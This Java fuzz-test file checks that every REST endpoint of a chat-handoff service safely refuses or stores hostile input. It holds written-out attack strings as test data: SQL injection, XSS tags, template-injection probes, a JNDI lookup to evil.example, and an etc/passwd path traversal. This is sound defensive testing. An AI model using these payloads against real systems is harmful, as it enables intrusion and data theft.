package dev.baton.reliability;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.function.Function;

import org.junit.jupiter.api.Test;

import dev.baton.support.Api;
import dev.baton.support.Api.RawResponse;
import dev.baton.support.Api.Staff;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.restassured.http.ContentType;
import io.vertx.core.json.JsonObject;

/**
 * Hostile input at every REST endpoint of PRODUCT.md, generated from each endpoint's valid request:
 * malformed and truncated JSON, wrong types, missing, null and extra fields, huge strings and bodies
 * (also chunked), invalid UUIDs in paths and bodies, bad paging, control characters, invalid UTF-8,
 * lone surrogates. Every answer must be a 4xx problem+json or a 2xx; never a 5xx; and a refused call
 * must leave the workspace (agents, chats, the fixture chat's timeline and ledger) as it was.
 * SQL- and script-looking text is stored and returned verbatim.
 */
@QuarkusTest
class HostileInputTests {

    private static final int BODY_LIMIT = 64 * 1024;
    /** Stands in for raw bytes that no Java string can carry (invalid UTF-8). */
    private static final String RAW_MARKER = "\u0001RAW\u0001";

    /** Text that looks like code to someone: it must come back exactly as sent. */
    static final List<String> HOSTILE_TEXT = List.of(
            "'; DROP TABLE timeline_entry; --",
            "' OR '1'='1' --",
            "Robert'); DELETE FROM agent WHERE ('1'='1",
            "1; SELECT pg_sleep(10)",
            "<script>alert('x')</script>",
            "<img src=x onerror=alert(1)>",
            "{{7*7}} ${7*7} #{7*7} %{7*7}",
            "${jndi:ldap://evil.example/a}",
            "\"quoted\" \\ backslash \\u0000 not a null",
            "%00 %s %n %x",
            "$$ dollar quoted $$ E'\\x00'",
            "emoji 😀 中文 العربية ‮rtl",
            "line one\nline two\ttabbed");

    private static final List<Object> WRONG_VALUES = List.of(0, -1, 1.5, 1e308, true, false, List.of(), Map.of(),
            List.of(1, "a"), Map.of("x", 1));

    private static final List<String> STRING_VALUES = List.of("", " ", "\u0000", "a\u0000b", "\u0001\u0002", "\u007f",
            "\u001b[31mred", "\ud800", "\udc00", "x\ud83dy", "x".repeat(5_000), "x".repeat(BODY_LIMIT + 1_000),
            "not-a-uuid", "00000000-0000-0000-0000-000000000000", UUID.randomUUID().toString(), "ONLINE", "0", "true",
            "' OR '1'='1", "<script>alert(1)</script>", RAW_MARKER);

    private static final List<String> PATH_IDS = List.of("not-a-uuid", "00000000-0000-0000-0000-000000000000",
            UUID.randomUUID().toString(), UUID.randomUUID().toString().toUpperCase(), "%00", "%27%20OR%201=1--",
            "..%2F..%2Fetc%2Fpasswd", "x".repeat(2_000), "1", "-1", "%F0%9F%98%80", "%ED%A0%80", "%FF%FE",
            UUID.randomUUID() + "0", "%7B%7D", "null");

    private static final List<byte[]> MALFORMED = List.of(bytes("{"), bytes("}"), bytes("{\"a\":"), bytes("[]"),
            bytes("\"text\""), bytes("123"), bytes("true"), bytes("{}}"), bytes("{} {}"), bytes("{'a':1}"),
            bytes("{\"a\":1,}"), bytes("{a:1}"), bytes("{\"a\":NaN}"), bytes("{\"a\":01}"), bytes("{\"a\":\"\\x41\"}"),
            bytes("{\"a\":\"\u0000\"}"), new byte[] { (byte) 0xff, (byte) 0xfe, '{', '}' },
            new byte[] { '{', '"', (byte) 0xc3, (byte) 0x28, '"', ':', '1', '}' }, bytes("[".repeat(5_000)),
            bytes("{\"a\":".repeat(2_000)), bytes("{\"a\":1e999999999}"), bytes("{\"a\":" + "9".repeat(5_000) + "}"));

    /** Not JSON objects, but readable as "no body" (optional bodies) or as JSON (RFC 8259 lets a parser skip a BOM). */
    private static final List<byte[]> ODD_BUT_READABLE = List.of(bytes("null"), bytes(" "), bytes("\ufeff{}"), bytes("\r\n"));

    private static final List<byte[]> INVALID_UTF8 = List.of(new byte[] { (byte) 0xc3, (byte) 0x28 }, new byte[] { (byte) 0xff },
            new byte[] { (byte) 0xc0, (byte) 0xaf }, new byte[] { (byte) 0xed, (byte) 0xa0, (byte) 0x80 },
            new byte[] { (byte) 0xf8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80 }, new byte[] { (byte) 0xe2, (byte) 0x82 });

    /** One endpoint: method, path ({chat} and {agent} are filled in), the token it takes and a valid body. */
    record Endpoint(String method, String path, Function<Fixture, String> token, Function<Fixture, Map<String, Object>> body) {
        boolean mutating() {
            return !method.equals("GET");
        }
    }

    /** One generated request and whether it must be refused (4xx) whatever state the workspace is in. */
    record Case(Endpoint endpoint, String label, String path, byte[] body, boolean chunked, boolean mustRefuse, String[] headers) {
    }

    /** The workspace under attack and its fixture chat (re-made held by the owner for every endpoint). */
    static final class Fixture {
        final Api api = Api.signUp();
        final Staff agent = api.createAgent("fuzzagent", "AGENT");
        final Staff target = api.createAgent("fuzztarget", "AGENT");
        final String chatId = api.chatHeldBy(api.owner);

        String path(String template) {
            return template.replace("{chat}", chatId).replace("{agent}", target.id());
        }
    }

    private static final List<Endpoint> ENDPOINTS = List.of(
            new Endpoint("POST", "/api/v1/workspaces", f -> null, f -> map("name", "Fuzz Co", "slug", Api.unique("fz"),
                    "owner", map("username", "owner", "displayName", "Owner", "password", Api.DEFAULT_PASSWORD))),
            new Endpoint("POST", "/api/v1/auth/login", f -> null,
                    f -> map("workspace", f.api.slug, "username", "fuzzagent", "password", Api.DEFAULT_PASSWORD)),
            new Endpoint("GET", "/api/v1/agents", f -> f.api.owner.token(), null),
            new Endpoint("POST", "/api/v1/agents", f -> f.api.owner.token(), f -> map("username", Api.unique("a"),
                    "displayName", "New Agent", "password", Api.DEFAULT_PASSWORD, "role", "AGENT")),
            new Endpoint("GET", "/api/v1/agents/me", f -> f.api.owner.token(), null),
            new Endpoint("PATCH", "/api/v1/agents/{agent}", f -> f.api.owner.token(),
                    f -> map("displayName", "Renamed", "role", "AGENT", "active", true)),
            new Endpoint("PUT", "/api/v1/agents/me/availability", f -> f.agent.token(), f -> map("availability", "ONLINE")),
            new Endpoint("GET", "/api/v1/chats", f -> f.api.owner.token(), null),
            new Endpoint("GET", "/api/v1/chats/{chat}", f -> f.api.owner.token(), null),
            new Endpoint("POST", "/api/v1/chats/{chat}/intervene", f -> f.agent.token(), null),
            new Endpoint("POST", "/api/v1/chats/{chat}/takeover", f -> f.api.owner.token(), f -> map("note", "mine now")),
            new Endpoint("POST", "/api/v1/chats/{chat}/transfer", f -> f.api.owner.token(),
                    f -> map("toAgentId", f.target.id(), "note", "over to you", "force", true)),
            new Endpoint("POST", "/api/v1/chats/{chat}/release", f -> f.api.owner.token(), f -> map("note", "back to the queue")),
            new Endpoint("POST", "/api/v1/chats/{chat}/resolve", f -> f.api.owner.token(), f -> map("note", "done")),
            new Endpoint("POST", "/api/v1/chats/{chat}/reopen", f -> f.api.owner.token(), null),
            new Endpoint("GET", "/api/v1/chats/{chat}/timeline", f -> f.api.owner.token(), null),
            new Endpoint("GET", "/api/v1/chats/{chat}/custody", f -> f.api.owner.token(), null),
            new Endpoint("POST", "/api/v1/chats/{chat}/messages", f -> f.api.owner.token(),
                    f -> map("text", "Hello there", "clientMessageId", Api.unique("c"))),
            new Endpoint("POST", "/api/v1/chats/{chat}/notes", f -> f.api.owner.token(), f -> map("text", "private")),
            new Endpoint("GET", "/api/v1/chats/{chat}/monitors", f -> f.api.owner.token(), null),
            new Endpoint("POST", "/api/v1/channel-tokens", f -> f.api.owner.token(), f -> map("name", "whatsapp")),
            new Endpoint("POST", "/api/v1/inbound/messages", f -> f.api.channelToken(), f -> map("externalId", Api.unique("x"),
                    "customer", map("phone", Api.randomPhone(), "name", "Customer"), "text", "Hi", "handoff", false)));

    @Test
    void shouldRefuseHostileInputWithProblemJsonAndChangeNothing() throws Exception {
        // Each endpoint is attacked in a workspace of its own, so endpoints can run side by side.
        ExecutorService pool = Executors.newFixedThreadPool(3);
        List<Future<Tally>> attacks = new ArrayList<>();
        for (Endpoint endpoint : ENDPOINTS) {
            attacks.add(pool.submit(() -> attack(endpoint)));
        }
        Tally total = new Tally();
        for (Future<Tally> attack : attacks) {
            total.add(attack.get(5, TimeUnit.MINUTES));
        }
        pool.shutdown();
        int verbatim = storesHostileTextVerbatim(new Fixture(), total.failures);
        System.out.printf("fuzz: %d cases over %d endpoints (%d accepted, %d refused), %d 5xx, %d changes; %d hostile texts stored verbatim%n",
                total.cases, ENDPOINTS.size(), total.accepted, total.cases - total.accepted, total.serverErrors, total.changes, verbatim);
        total.failures.forEach(f -> System.out.println("  " + f));
        assertTrue(total.failures.isEmpty(), () -> total.failures.size() + " failures, first: " + total.failures.get(0));
    }

    /** What one endpoint's attack found. */
    static final class Tally {
        int cases;
        int accepted;
        int serverErrors;
        int changes;
        final List<String> failures = new ArrayList<>();

        void add(Tally other) {
            cases += other.cases;
            accepted += other.accepted;
            serverErrors += other.serverErrors;
            changes += other.changes;
            failures.addAll(other.failures);
        }
    }

    /**
     * The cases that must be refused run as one block between two snapshots; the others, which may
     * legitimately succeed, are checked one by one against the latest snapshot.
     */
    private static Tally attack(Endpoint endpoint) {
        Fixture fixture = new Fixture();
        Tally tally = new Tally();
        List<Case> cases = cases(endpoint, fixture);
        String before = snapshot(fixture, endpoint);
        List<Case> refusals = cases.stream().filter(Case::mustRefuse).toList();
        for (Case c : refusals) {
            send(c, fixture, tally);
        }
        String after = snapshot(fixture, endpoint);
        if (endpoint.mutating() && !after.equals(before)) {
            tally.changes++;
            tally.failures.add(endpoint.method() + " " + endpoint.path() + ": one of " + refusals.size()
                    + " refused cases changed the workspace");
        }
        before = after;
        for (Case c : cases) {
            if (c.mustRefuse()) {
                continue;
            }
            boolean accepted = send(c, fixture, tally);
            if (!endpoint.mutating()) {
                continue;
            }
            after = snapshot(fixture, endpoint);
            if (!accepted && !after.equals(before)) {
                tally.changes++;
                tally.failures.add(label(c) + "refused but changed the workspace");
            }
            before = after;
        }
        return tally;
    }

    /** Sends one case and checks its answer; returns whether it was accepted (2xx). */
    private static boolean send(Case c, Fixture fixture, Tally tally) {
        tally.cases++;
        boolean ownAuthorization = c.headers().length > 0 && c.headers()[0].equals("Authorization");
        String token = ownAuthorization ? null : c.endpoint().token().apply(fixture);
        RawResponse response;
        try {
            response = Api.raw(RestAssured.port, c.endpoint().method(), c.path(), token, c.body(), c.chunked(), c.headers());
        } catch (java.io.UncheckedIOException e) {
            tally.failures.add(label(c) + "no answer: " + e.getCause());
            return false;
        }
        if (response.status() >= 500) {
            tally.serverErrors++;
            tally.failures.add(label(c) + response.status() + " " + abbreviate(response.body()));
            return false;
        }
        if (response.status() / 100 == 2) {
            tally.accepted++;
            if (c.mustRefuse()) {
                tally.failures.add(label(c) + "accepted (" + response.status() + ") what must be refused");
            }
            return true;
        }
        if (!response.contentType().startsWith("application/problem+json") || problemCode(response) == null) {
            tally.failures.add(label(c) + response.status() + " is not problem+json with a code: " + response.contentType() + " "
                    + abbreviate(response.body()));
        }
        return false;
    }

    private static String label(Case c) {
        return c.endpoint().method() + " " + c.endpoint().path() + " [" + c.label() + "]: ";
    }

    /** Every case for one endpoint, generated from its valid request. */
    private static List<Case> cases(Endpoint endpoint, Fixture fixture) {
        List<Case> cases = new ArrayList<>();
        String path = fixture.path(endpoint.path());
        Map<String, Object> valid = endpoint.body() == null ? null : endpoint.body().apply(fixture);
        byte[] validBytes = valid == null ? null : bytes(json(valid));

        if (endpoint.path().contains("{chat}") || endpoint.path().contains("{agent}")) {
            for (String id : PATH_IDS) {
                String bad = endpoint.path().replace("{chat}", id).replace("{agent}", id);
                cases.add(new Case(endpoint, "path id " + abbreviate(id), fixture.path(bad), validBytes, false, true, new String[0]));
            }
        }
        if (endpoint.method().equals("GET")) {
            for (String query : queries(endpoint)) {
                cases.add(new Case(endpoint, "query " + abbreviate(query), path + query, null, false, false, new String[0]));
            }
        }
        if (endpoint.path().startsWith("/api/v1/chats/{chat}/") && endpoint.method().equals("POST")
                && !endpoint.path().endsWith("messages") && !endpoint.path().endsWith("notes")) {
            // "*" is not here: it means "any version" (HTTP semantics) and is accepted.
            for (String ifMatch : List.of("abc", "\"\"", "W/", "\"-1\"", "\"99999999999999999999\"", "\"1.5\"")) {
                cases.add(new Case(endpoint, "If-Match " + ifMatch, path, validBytes, false, true, new String[] { "If-Match", ifMatch }));
            }
        }
        if (!endpoint.path().startsWith("/api/v1/workspaces") && !endpoint.path().startsWith("/api/v1/auth")) {
            for (String auth : List.of("", "Bearer", "Bearer ", "Basic dXNlcjpwYXNz", "Bearer a.b.c",
                    "Bearer " + "x".repeat(7_000))) {
                cases.add(new Case(endpoint, "Authorization " + abbreviate(auth), path, validBytes, false, true,
                        new String[] { "Authorization", auth }));
            }
        }
        if (valid == null) {
            return cases;
        }
        for (byte[] malformed : MALFORMED) {
            cases.add(new Case(endpoint, "malformed " + abbreviate(new String(malformed, StandardCharsets.UTF_8)), path, malformed, false,
                    true, new String[0]));
        }
        for (byte[] odd : ODD_BUT_READABLE) {
            cases.add(new Case(endpoint, "odd body " + abbreviate(new String(odd, StandardCharsets.UTF_8)), path, odd, false, false,
                    new String[0]));
        }
        for (int cut : new int[] { 1, validBytes.length / 3, validBytes.length / 2, validBytes.length - 1 }) {
            cases.add(new Case(endpoint, "truncated at " + cut, path, java.util.Arrays.copyOf(validBytes, cut), false, true, new String[0]));
        }
        cases.add(new Case(endpoint, "empty body", path, new byte[0], false, false, new String[0]));
        // Bodies are JSON only: a valid JSON body declared as anything else is a 415 too.
        cases.add(new Case(endpoint, "text/plain", path, validBytes, false, true, new String[] { "Content-Type", "text/plain" }));
        cases.add(new Case(endpoint, "form", path, bytes("a=1"), false, true,
                new String[] { "Content-Type", "application/x-www-form-urlencoded" }));
        byte[] huge = bytes(json(with(valid, List.of(), "padding", "x".repeat(BODY_LIMIT))));
        cases.add(new Case(endpoint, "body over 64 KiB", path, huge, false, true, new String[0]));
        cases.add(new Case(endpoint, "chunked body over 64 KiB", path, huge, true, true, new String[0]));
        cases.add(new Case(endpoint, "chunked valid body", path, validBytes, true, false, new String[0]));
        for (List<String> field : fields(valid, List.of())) {
            Object original = get(valid, field);
            String name = String.join(".", field);
            cases.add(new Case(endpoint, name + " missing", path, bytes(json(without(valid, field))), false, false, new String[0]));
            cases.add(new Case(endpoint, name + " null", path, bytes(json(with(valid, field.subList(0, field.size() - 1),
                    field.get(field.size() - 1), null))), false, false, new String[0]));
            for (Object wrong : WRONG_VALUES) {
                boolean wrongType = original instanceof String || original instanceof Map
                        || (original instanceof Boolean && !(wrong instanceof Boolean));
                if (original instanceof Map && wrong instanceof Map) {
                    continue;
                }
                cases.add(new Case(endpoint, name + " = " + json(wrong), path, bytes(json(replace(valid, field, wrong))), false,
                        wrongType, new String[0]));
            }
            for (String text : STRING_VALUES) {
                boolean mustRefuse = !(original instanceof String) || text.length() > BODY_LIMIT || text.contains("\u0000");
                byte[] body = bytes(json(replace(valid, field, text)));
                if (text.equals(RAW_MARKER)) {
                    for (byte[] invalid : INVALID_UTF8) {
                        cases.add(new Case(endpoint, name + " invalid UTF-8 " + hex(invalid), path, splice(body, invalid), false, true,
                                new String[0]));
                    }
                    continue;
                }
                cases.add(new Case(endpoint, name + " = \"" + abbreviate(text) + "\"", path, body, false, mustRefuse, new String[0]));
            }
        }
        for (List<String> object : objects(valid, List.of())) {
            cases.add(new Case(endpoint, "extra field in " + (object.isEmpty() ? "body" : String.join(".", object)), path,
                    bytes(json(with(valid, object, "isAdmin", true))), false, true, new String[0]));
        }
        return cases;
    }

    private static List<String> queries(Endpoint endpoint) {
        List<String> queries = new ArrayList<>();
        List<String> numbers = List.of("-1", "0", "201", "99999999999999999999", "abc", "1.5", "", "%00", "1e3", "0x10", "%20",
                "9223372036854775807", "-9223372036854775808", "%EF%BC%91");
        for (String n : numbers) {
            queries.add("?limit=" + n);
            if (endpoint.path().endsWith("timeline")) {
                queries.add("?after=" + n);
            }
        }
        if (endpoint.path().equals("/api/v1/chats")) {
            for (String v : List.of("open", "0", "RESOLVED%00", "%27%20OR%201=1", "x".repeat(3_000))) {
                queries.add("?status=" + v);
            }
            for (String v : List.of("not-a-uuid", "%00", UUID.randomUUID() + "x", "00000000-0000-0000-0000-000000000000")) {
                queries.add("?holderId=" + v);
            }
            for (String v : List.of("garbage", "%00", "AAAA", "MjAyNHxub3Q", "x".repeat(3_000), "fA", "LTk5OTk5OTk5OS0xMi0zMVQwMDowMFp8eA")) {
                queries.add("?cursor=" + v);
            }
        }
        queries.add("?limit=1&limit=2");
        queries.add("?unknown=1");
        return queries;
    }

    /**
     * Hostile-looking text where free text is allowed: accepted, and read back exactly as sent from the
     * answer and from a later read. Returns how many were checked.
     */
    private static int storesHostileTextVerbatim(Fixture fixture, List<String> failures) {
        Api api = fixture.api;
        String chatId = api.chatHeldBy(api.owner);
        int checked = 0;
        for (String text : HOSTILE_TEXT) {
            String reply = Api.reply(api.owner, chatId, text).then().statusCode(201).extract().path("text");
            String note = Api.note(api.owner, chatId, text).then().statusCode(201).extract().path("text");
            String name = text.contains("\n") ? "Customer" : text;
            String inboundChat = given().contentType(ContentType.JSON).header("Authorization", "Bearer " + api.channelToken())
                    .body(Map.of("externalId", Api.unique("x"), "customer", Map.of("phone", Api.randomPhone(), "name", name), "text", text))
                    .post("/api/v1/inbound/messages").then().statusCode(201).extract().path("chatId");
            String storedName = Api.chat(api.owner, inboundChat).then().statusCode(200).extract().path("customer.name");
            String displayName = text.contains("\n") ? null
                    : api.owner.as().body(Map.of("displayName", text)).patch("/api/v1/agents/" + fixture.target.id())
                            .then().statusCode(200).extract().path("displayName");
            List<Map<String, Object>> timeline = Api.timeline(api.owner, chatId);
            List<Map<String, Object>> inboundTimeline = Api.timeline(api.owner, inboundChat);
            List<Object> stored = List.of(reply, note, text.contains("\n") ? text : storedName, timeline.get(timeline.size() - 2).get("text"),
                    timeline.get(timeline.size() - 1).get("text"), inboundTimeline.get(inboundTimeline.size() - 1).get("text"));
            for (Object value : stored) {
                checked++;
                if (!text.equals(value)) {
                    failures.add("verbatim: sent " + abbreviate(text) + ", read back " + value);
                }
            }
            if (displayName != null) {
                checked++;
                if (!text.equals(displayName)) {
                    failures.add("verbatim displayName: sent " + abbreviate(text) + ", read back " + displayName);
                }
            }
        }
        return checked;
    }

    /**
     * What a refused call must not change. Every chat of the workspace with its status, holder,
     * version and lastSeq: timelines and ledgers are append-only, so any new entry (custody or
     * message) moves lastSeq. The agents too, when the endpoint is one that can change them.
     */
    private static String snapshot(Fixture fixture, Endpoint endpoint) {
        Staff owner = fixture.api.owner;
        String chats = owner.as().get("/api/v1/chats?limit=200").asString();
        return endpoint.path().startsWith("/api/v1/agents") ? chats + "\n" + owner.as().get("/api/v1/agents").asString() : chats;
    }

    private static String problemCode(RawResponse response) {
        try {
            return new JsonObject(response.body()).getString("code");
        } catch (RuntimeException e) {
            return null;
        }
    }

    // ---- building JSON by hand, so that lone surrogates and control characters go out exactly as intended ----

    static String json(Object value) {
        if (value == null) {
            return "null";
        }
        if (value instanceof String s) {
            StringBuilder out = new StringBuilder("\"");
            for (char c : s.toCharArray()) {
                if (c == '"' || c == '\\') {
                    out.append('\\').append(c);
                } else if (c < 0x20 || c > 0x7e) {
                    out.append(String.format("\\u%04x", (int) c));
                } else {
                    out.append(c);
                }
            }
            return out.append('"').toString();
        }
        if (value instanceof Map<?, ?> map) {
            StringBuilder out = new StringBuilder("{");
            map.forEach((k, v) -> out.append(out.length() > 1 ? "," : "").append(json(k)).append(':').append(json(v)));
            return out.append('}').toString();
        }
        if (value instanceof List<?> list) {
            StringBuilder out = new StringBuilder("[");
            list.forEach(v -> out.append(out.length() > 1 ? "," : "").append(json(v)));
            return out.append(']').toString();
        }
        return String.valueOf(value);
    }

    /** Leaf fields (paths), including object-valued ones. */
    private static List<List<String>> fields(Map<String, Object> body, List<String> prefix) {
        List<List<String>> out = new ArrayList<>();
        body.forEach((key, value) -> {
            List<String> path = append(prefix, key);
            out.add(path);
            if (value instanceof Map<?, ?> nested) {
                out.addAll(fields(cast(nested), path));
            }
        });
        return out;
    }

    private static List<List<String>> objects(Map<String, Object> body, List<String> prefix) {
        List<List<String>> out = new ArrayList<>();
        out.add(prefix);
        body.forEach((key, value) -> {
            if (value instanceof Map<?, ?> nested) {
                out.addAll(objects(cast(nested), append(prefix, key)));
            }
        });
        return out;
    }

    private static Object get(Map<String, Object> body, List<String> path) {
        Object value = body;
        for (String key : path) {
            value = cast(value).get(key);
        }
        return value;
    }

    private static Map<String, Object> replace(Map<String, Object> body, List<String> path, Object value) {
        return with(body, path.subList(0, path.size() - 1), path.get(path.size() - 1), value);
    }

    /** A deep copy of {@code body} with {@code key} set to {@code value} in the object at {@code path}. */
    private static Map<String, Object> with(Map<String, Object> body, List<String> path, String key, Object value) {
        Map<String, Object> copy = new LinkedHashMap<>(body);
        if (path.isEmpty()) {
            copy.put(key, value);
        } else {
            copy.put(path.get(0), with(cast(body.get(path.get(0))), path.subList(1, path.size()), key, value));
        }
        return copy;
    }

    private static Map<String, Object> without(Map<String, Object> body, List<String> path) {
        Map<String, Object> copy = new LinkedHashMap<>(body);
        if (path.size() == 1) {
            copy.remove(path.get(0));
        } else {
            copy.put(path.get(0), without(cast(body.get(path.get(0))), path.subList(1, path.size())));
        }
        return copy;
    }

    /** Replaces the (JSON-escaped) marker in {@code body} with raw bytes. */
    private static byte[] splice(byte[] body, byte[] raw) {
        String text = new String(body, StandardCharsets.UTF_8);
        String marker = json(RAW_MARKER);
        int at = text.indexOf(marker.substring(1, marker.length() - 1));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(bytes(text.substring(0, at)));
        out.writeBytes(raw);
        out.writeBytes(bytes(text.substring(at + marker.length() - 2)));
        return out.toByteArray();
    }

    private static Map<String, Object> map(Object... pairs) {
        Map<String, Object> map = new LinkedHashMap<>();
        for (int i = 0; i < pairs.length; i += 2) {
            map.put((String) pairs[i], pairs[i + 1]);
        }
        return map;
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> cast(Object map) {
        return (Map<String, Object>) map;
    }

    private static List<String> append(List<String> list, String item) {
        List<String> out = new ArrayList<>(list);
        out.add(item);
        return out;
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static String hex(byte[] raw) {
        StringBuilder out = new StringBuilder();
        for (byte b : raw) {
            out.append(String.format("%02x", b));
        }
        return out.toString();
    }

    private static String abbreviate(String text) {
        String printable = text.codePoints().limit(40)
                .collect(StringBuilder::new, (b, c) -> b.append(c < 0x20 || c == 0x7f ? String.format("\\u%04x", c) : Character.toString(c)),
                        StringBuilder::append).toString();
        return text.length() > 40 ? printable + "…(" + text.length() + ")" : printable;
    }
}
